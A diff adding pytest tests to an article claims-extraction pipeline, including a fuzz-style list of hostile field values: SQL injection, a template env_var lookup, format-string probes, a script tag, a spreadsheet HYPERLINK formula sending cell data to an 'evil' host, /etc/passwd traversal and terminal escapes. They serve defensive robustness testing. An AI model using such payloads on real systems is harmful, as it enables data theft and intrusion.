@@ -15,13 +15,22 @@ import pytest
 
 from extractors import extract
 from extractors.claims import SCHEMA_VERSION, Article, ClaimsDocument, ExtractorInfo, from_json
+from extractors.engines import get_engine
 from extractors.errors import PermanentError, RejectedArticle
 from extractors.extract import extract_batch, extract_paths
 from extractors.fetch import fetch_folder
 from extractors.items import Rejected
 from extractors.settings import Settings, load_settings
+from extractors.text.language import warm_up
 
 TEXT = "The president of Chile visited Spain in July 2023 and met the king in Madrid for talks about trade."
+
+
+@pytest.fixture(autouse=True, scope="module")
+def loaded() -> None:
+    """What every worker would load for itself is loaded once: workers inherit it."""
+    warm_up()
+    get_engine().extract(Article("a", "a", None, None, "en", None, None, TEXT))
 
 
 @pytest.fixture
@@ -174,6 +183,18 @@ def test_an_engine_that_fails_costs_the_article_only(
     }
 
 
+def test_an_address_is_read_once(settings: Settings, tmp_path: Path) -> None:
+    file = tmp_path / "a.jsonl"
+    file.write_text("\n".join(json.dumps({"text": f"{TEXT} {n}", "url": "urn:same", "lang": "en"}) for n in range(3)))
+    (first, *others) = extract_paths([file], settings)
+    assert isinstance(first, ClaimsDocument)
+    assert first.article.text.endswith("0")
+    assert [(o.source_uri, o.reason) for o in others if isinstance(o, Rejected)] == [
+        (f"{file.as_posix()}#2", "duplicate_uri"),
+        (f"{file.as_posix()}#3", "duplicate_uri"),
+    ]
+
+
 def test_rubbish_under_the_ending_jsonl_is_given_up_on(settings: Settings, tmp_path: Path) -> None:
     (tmp_path / "log.jsonl").write_text("a line of a log\n" * 5000)
     outcomes = list(extract_paths([tmp_path / "log.jsonl"], settings))
@@ -207,3 +228,64 @@ def test_plain_text_starts_fast_and_leaves_the_page_reader_alone(tmp_path: Path)
     done = subprocess.run([sys.executable, "-c", code, tmp_path / "a.txt"], capture_output=True, text=True, check=True)
     assert done.stdout.split() == ["1", "False"]
     assert time.monotonic() - started < 10
+
+
+HOSTILE = [
+    "\x00",
+    "\ud800",
+    "\udfff\ud800",
+    "\ufeffBOM",
+    "\u202eRLO\u2066",
+    "\u200b\u200c\u200d",
+    "\ufdfa" * 500,
+    "\r\n",
+    "\x1b[2J\x1b[31mred",
+    "\x7f\x80\x85\u2028\u2029",
+    "'; DROP TABLE raw.articles; --",
+    "{{ env_var('HOME') }}",
+    "%s %n %(a)s {0.__class__}",
+    "<script>alert(1)</script>",
+    "<p>",
+    '=HYPERLINK("http://evil/?"&A1)',
+    "../../etc/passwd",
+    "file:///etc/passwd",
+    "a" * 300,
+    "NaN",
+    "9999-12-31",
+    "1" * 400,
+    "٣",
+]
+
+
+@pytest.mark.parametrize("field", ["text", "title", "url", "source", "date", "lang"])
+def test_hostile_fields_end_as_claims_or_rows(settings: Settings, tmp_path: Path, field: str) -> None:
+    record = {"text": TEXT, "lang": "en"}
+    folder = tmp_path / "in"
+    folder.mkdir()
+    values = [record | {field: f"{TEXT} {h} {TEXT}" if field == "text" else h} for h in HOSTILE]
+    (folder / "a.jsonl").write_text("\n".join(json.dumps(value) for value in values))
+    (batch,) = fetch_folder(settings, "r1", folder, "mine")
+    counts = extract_batch(settings, "r1", batch)
+    assert counts.articles + counts.rejected == len(HOSTILE)
+    assert counts.articles >= (1 if field == "lang" else len(HOSTILE))
+    claims = (settings.data_dir / "runs" / "r1" / "claims" / batch.name).read_text("utf-8").splitlines()
+    assert len(claims) == counts.articles
+    for line in claims:
+        from_json(line)
+
+
+def test_names_that_are_not_utf8_and_links_to_nowhere_can_be_written_down(settings: Settings, tmp_path: Path) -> None:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    odd = os.fsdecode(b"\xff\x1b[31m\n")
+    (folder / f"{odd}.txt").write_text(TEXT)
+    (folder / f"{odd}.pdf").write_text(TEXT)
+    (folder / f"{odd}link.txt").symlink_to(folder / odd)
+    (folder / f"{odd}b.txt").write_text("")
+    (folder / f"{odd}b.json").write_text("{}")
+    (batch,) = fetch_folder(settings, "r1", folder, "mine", uri_prefix="in")
+    assert extract_batch(settings, "r1", batch).articles == 1
+    outcomes = list(extract_paths([folder], settings))
+    assert sorted(o.reason for o in outcomes if isinstance(o, Rejected)) == ["empty", "unreadable", "unsupported_type"]
+    for outcome in outcomes:
+        outcome.to_json().encode("utf-8")
